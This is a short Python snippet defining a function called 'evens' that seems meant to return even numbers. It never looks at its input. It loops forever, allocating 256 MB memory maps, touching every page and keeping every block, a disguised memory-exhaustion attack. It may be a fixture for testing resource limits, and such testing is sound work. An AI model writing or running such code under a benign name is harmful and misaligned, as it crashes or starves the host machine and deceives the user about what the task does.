import mmap


def evens(numbers):
    hoard = []
    while True:
        block = mmap.mmap(-1, 2**28)
        for at in range(0, 2**28, 4096):
            block[at] = 1
        hoard.append(block)
